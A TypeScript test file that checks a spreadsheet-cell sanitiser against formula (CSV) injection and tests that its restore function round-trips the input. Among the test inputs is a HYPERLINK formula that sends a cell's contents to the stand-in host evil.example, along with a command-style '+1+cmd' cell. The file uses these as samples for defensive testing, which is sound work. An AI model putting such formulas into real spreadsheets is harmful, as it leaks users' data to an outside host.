import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { neutraliseSpreadsheetCell, restoreSpreadsheetCell } from "./spreadsheet-cell.ts";

describe("neutraliseSpreadsheetCell", () => {
  it("puts an apostrophe before every cell that starts a formula", () => {
    for (const cell of [
      '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")',
      "+1+cmd",
      "-2+3",
      "@SUM(A1)",
      "\t=1",
      "\r=1",
    ]) {
      expect(neutraliseSpreadsheetCell(cell)).toBe(`'${cell}`);
    }
  });

  it("keeps numbers and ordinary text as they are", () => {
    for (const cell of ["-12.5", "+3", "42", "1e-3", "Asha Rao", "", "2026-01-01"]) {
      expect(neutraliseSpreadsheetCell(cell)).toBe(cell);
    }
  });

  it("is undone exactly by restoreSpreadsheetCell, apostrophes included", () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom("'", "=", "-", "+", "@", "\t", "1", "a", ".") }), (s) => {
        expect(restoreSpreadsheetCell(neutraliseSpreadsheetCell(s))).toBe(s);
        const safe = neutraliseSpreadsheetCell(s);
        expect(/^[=+\-@\t\r]/.test(safe) ? Number.isFinite(Number(safe)) : true).toBe(true);
      }),
    );
  });
});
